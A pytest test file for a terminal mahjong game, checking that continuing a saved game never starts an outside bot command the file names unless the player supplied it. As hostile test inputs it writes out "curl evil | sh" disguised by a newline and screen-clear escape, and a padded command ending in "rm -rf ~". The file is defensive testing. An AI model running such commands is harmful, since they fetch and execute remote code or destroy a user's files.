"""A game file never runs a program (issue 35 item 1).

A save's header records the command of each outside mjai bot that played, for the
record.  Continuing the game starts that command only when the player gave it (on the
command line, in the new-game screen, or by answering yes to the question that shows it);
otherwise the strong bot plays the seat and the player is told in one sentence.  Every
test watches ``subprocess.Popen``: the programs started, not only their effects.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import Input, Static

from hanchan.ai.club import ClubBot
from hanchan.ai.mjai.seat import MjaiSeat
from hanchan.cli.parser import build_parser
from hanchan.cli.play import game_spec
from hanchan.engine.events import Note
from hanchan.saves.reader import load
from hanchan.saves.verify import check_loaded
from hanchan.saves.writer import GameWriter
from hanchan.tui.app import HanchanApp
from hanchan.tui.messages import ContinueGame
from hanchan.tui.screens.menu import MenuScreen
from hanchan.tui.screens.start_program import StartProgramScreen
from hanchan.tui.screens.table import TableScreen
from hanchan.tui.session import PlaySession, not_started
from hanchan.tui.settings import Settings
from tests.kit.mjai import python_command, simple_bot
from tests.kit.saved_games import unfinished_save
from tests.kit.screen_text import screen_text
from tests.kit.tui_driver import settle

SIZE = (120, 40)


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """The argv of every program started through ``subprocess.Popen`` (it still runs)."""
    calls: list[Any] = []
    real = subprocess.Popen

    def popen(*args: Any, **kwargs: Any) -> Any:
        calls.append(args[0] if args else kwargs.get("args"))
        return real(*args, **kwargs)

    monkeypatch.setattr(subprocess, "Popen", popen)
    return calls


def marker_command(marker: Path) -> str:
    """What a hostile file might name: a program that makes ``marker``."""
    return python_command("-c", f"open({str(marker)!r}, 'w').close()")


def strong(bot: object) -> bool:
    return isinstance(bot, ClubBot) and bot.level == "strong"


def _squeezed(text: str) -> str:
    """``text`` without its spaces and line ends (the screen wraps long lines)."""
    return "".join(text.split())


def notes(path: Path) -> list[Note]:
    return [e for e in load(path).events if isinstance(e, Note)]


# ------------------------------------------------------------------ the session


@pytest.mark.parametrize("seats", ["header", "odd spelling", "player name"])
def test_continuing_a_file_that_names_a_command_starts_no_program(
        tmp_path: Path, started: list[Any], seats: str) -> None:
    """The command is not run, the strong bot plays its seat, and one sentence says so,
    to the player and in the continued file.  ``player name``: an old save without bot
    levels in its header, whose player names say the level (``Bot (easy)``)."""
    marker = tmp_path / "ran"
    command = marker_command(marker)
    if seats == "header":
        path = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"])
    elif seats == "odd spelling":
        path = unfinished_save(tmp_path, [None, "easy", f"  MJAI:  {command} ", "easy"])
    else:  # a name in parentheses, as an older hanchan named its bots
        command = simple_bot(marker)  # a real mjai bot: it makes ``marker`` when it starts
        path = unfinished_save(tmp_path, [None, None, None, None],
                               players=("You", f"Bot (mjai:{command})", "Bot (easy)", "Bot"))
    session = PlaySession.resume(path)
    try:
        assert not any(isinstance(b, MjaiSeat) for b in session.bots.values())
        session.run_bots()  # the game goes on
    finally:
        session.close()
    assert started == [] and not marker.exists()
    if seats == "player name":  # a name is no level: the level of the others plays it
        bot = session.bots[1]
        assert session.notices == [] and isinstance(bot, ClubBot) and bot.level == "easy"
        return
    assert strong(session.bots[2])
    [notice] = session.notices
    assert notice == not_started(2, command)
    assert notice.startswith(f"West's outside bot `{command}` was not started")
    assert "strong" in notice
    [note] = notes(path)
    assert (note.seat, note.text) == (2, notice)
    assert check_loaded(load(path)).problem is None  # the note changes nothing played


def test_a_command_the_user_gave_starts_on_continue(tmp_path: Path, started: list[Any]
                                                    ) -> None:
    """The same command given by the player (``trusted``) is started: the bot plays."""
    log = tmp_path / "bot.log"
    command = simple_bot(log)
    other = marker_command(tmp_path / "ran")
    path = unfinished_save(tmp_path, [None, f"mjai:{other}", f"mjai:{command}", "easy"])
    session = PlaySession.resume(path, trusted={command})
    try:
        bot = session.bots[2]
        assert isinstance(bot, MjaiSeat)
        assert strong(session.bots[1])
        assert session.notices == [not_started(1, other)]
        for _ in range(20):
            session.run_bots()
            legal = session.legal()
            if not legal or bot.replies:
                break
            assert session.act(0, legal[0]) is None
        assert bot.replies > 0
    finally:
        session.close()
    assert len(started) == 1 and started[0][1].endswith("simple.py")
    assert log.read_text().strip() and not (tmp_path / "ran").exists()


def test_a_seat_the_file_gives_no_known_bot_is_refused_and_starts_nothing(
        tmp_path: Path, started: list[Any]) -> None:
    """Every seat is checked before any bot starts: a trusted command beside a seat no bot
    fits starts no process, and the file is left free (unlocked) to continue."""
    command = simple_bot()
    path = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "genius"])
    with pytest.raises(ValueError, match="'genius' is not a bot level"):
        PlaySession.resume(path, trusted={command})
    assert started == []
    writer, _ = GameWriter.resume(path, pointer=False)  # not GameLocked
    writer.close()


# ------------------------------------------------------------------ the app


@pytest.mark.parametrize("answer", ["1", "escape", "2"])
async def test_the_app_asks_before_continuing_a_file_that_names_a_command(
        tmp_path: Path, started: list[Any], answer: str) -> None:
    """Continue from the menu: a question shows the exact command (markup and control
    characters shown as they are, escaped) and offers to seat the strong bot (first, and
    Escape) or to start it; nothing runs before the answer, and only a yes runs it."""
    marker = tmp_path / "ran"
    command = simple_bot(marker) + " '[b]x[/b] [x=y]'"  # markup, as a hostile file may hold
    path = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"], pointer=True)
    app = HanchanApp("menu", save_dir=tmp_path, settings=Settings(bot_delay=0.0))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        assert isinstance(app.screen, MenuScreen)
        await pilot.press("c")
        await pilot.pause()
        assert isinstance(app.screen, StartProgramScreen)
        text = screen_text(app)
        assert "Start a program from a game file?" in text
        assert "part.jsonl names an outside bot for West" in text
        # the whole command, its markup as typed (wrapped in the box at its spaces)
        assert _squeezed(command) in _squeezed(text.replace("│", ""))
        assert f"\n  {command}\n" in str(app.screen.query_one("#command", Static).content)
        assert "1  Seat strong instead" in text and "2  Start it" in text
        assert started == [] and app.session is None
        await pilot.press(answer)
        table = await settle(pilot)
        assert isinstance(table, TableScreen)
        session = table.session
        assert session.save_path == path
        if answer == "2":
            assert isinstance(session.bots[2], MjaiSeat) and session.notices == []
            assert len(started) == 1
        else:
            assert strong(session.bots[2]) and started == []
            await pilot.pause()
            shown = [n.message for n in app._notifications]
            assert not_started(2, command) in shown
        await pilot.press("ctrl+q")
    assert marker.exists() == (answer == "2")


async def test_a_command_with_control_characters_is_shown_escaped(
        tmp_path: Path, started: list[Any]) -> None:
    """A newline or a terminal escape cannot hide part of the command: each is shown as
    its escape, in the question and in the sentence after "Seat strong instead"."""
    command = "./innocent\n\x1b[2Jsh -c 'curl evil | sh'"
    unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"], pointer=True)
    app = HanchanApp("menu", save_dir=tmp_path, settings=Settings(bot_delay=0.0))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await pilot.press("c")
        await pilot.pause()
        assert isinstance(app.screen, StartProgramScreen)
        assert _squeezed(r"./innocent\n\x1b[2Jsh -c 'curl evil | sh'") in _squeezed(
            screen_text(app).replace("│", ""))
        await pilot.press("1")
        await settle(pilot)
        shown = [n.message for n in app._notifications]
        assert any(r"`./innocent\n\x1b[2Jsh -c 'curl evil | sh'` was not started" in m
                   for m in shown)
        await pilot.press("ctrl+q")
    assert started == []


async def test_a_command_too_long_to_show_whole_is_not_offered(
        tmp_path: Path, started: list[Any]) -> None:
    """A command the question can show only cut (over 400 characters) cannot be started
    from the file: the only answer is the strong bot."""
    command = marker_command(tmp_path / "ran") + " #" + "x" * 1000 + " ; rm -rf ~"
    unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"], pointer=True)
    app = HanchanApp("menu", save_dir=tmp_path, settings=Settings(bot_delay=0.0))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.pause()
        await pilot.press("c")
        await pilot.pause()
        assert isinstance(app.screen, StartProgramScreen)
        text = screen_text(app)
        assert f"({len(command):,} characters)" in text and "rm -rf" not in text
        assert "1  Seat strong instead" in text and "Start it" not in text
        assert "too long to be shown whole" in text
        await pilot.press("2")
        await pilot.pause()
        assert isinstance(app.screen, StartProgramScreen)  # no such answer
        await pilot.press("enter")
        table = await settle(pilot)
        assert isinstance(table, TableScreen) and strong(table.session.bots[2])
        await pilot.press("ctrl+q")
    assert started == [] and not (tmp_path / "ran").exists()


async def test_a_command_given_on_the_command_line_is_not_asked_about(
        tmp_path: Path, started: list[Any]) -> None:
    """``hanchan play --bots mjai:CMD``: the player gave CMD, so a saved game naming the
    same CMD continues with that bot at once; any other command is still not run."""
    command = simple_bot()
    other = marker_command(tmp_path / "ran")
    args = build_parser().parse_args(["play", "--seed", "5", "--bots", f"mjai:{command}"])
    spec = game_spec(args, tmp_path / "new")
    same = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"], name="same")
    theirs = unfinished_save(tmp_path, [None, "easy", f"mjai:{other}", "easy"], name="theirs")
    app = HanchanApp("play", new_game=spec, save_dir=tmp_path / "new",
                     settings=Settings(bot_delay=0.0))
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert len(started) == 3  # the new game's three seats
        app.post_message(ContinueGame(same))
        table = await settle(pilot)
        assert isinstance(table, TableScreen) and table.session.save_path == same
        assert isinstance(table.session.bots[2], MjaiSeat) and len(started) == 4
        app.post_message(ContinueGame(theirs))
        await pilot.pause()
        assert isinstance(app.screen, StartProgramScreen)
        await pilot.press("escape")
        table = await settle(pilot)
        assert isinstance(table, TableScreen) and table.session.save_path == theirs
        assert strong(table.session.bots[2]) and len(started) == 4
        await pilot.press("ctrl+q")
    assert not (tmp_path / "ran").exists()


async def test_a_command_typed_in_the_new_game_screen_is_trusted_after(
        tmp_path: Path, started: list[Any]) -> None:
    """The command field of the new-game screen is the player's too: a saved game with
    that command continues without the question."""
    command = simple_bot()
    app = HanchanApp("menu", save_dir=tmp_path, settings=Settings(bot_delay=0.0))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("n")
        await pilot.pause()
        app.screen.query_one("#mjai", Input).value = command
        await pilot.press("ctrl+s")
        first = await settle(pilot)
        assert isinstance(first, TableScreen) and len(started) == 1
        path = unfinished_save(tmp_path, [None, "easy", f"mjai:{command}", "easy"],
                               name="again")
        app.post_message(ContinueGame(path))
        table = await settle(pilot)
        assert isinstance(table, TableScreen) and table.session.save_path == path
        assert isinstance(table.session.bots[2], MjaiSeat) and len(started) == 2
        await pilot.press("ctrl+q")
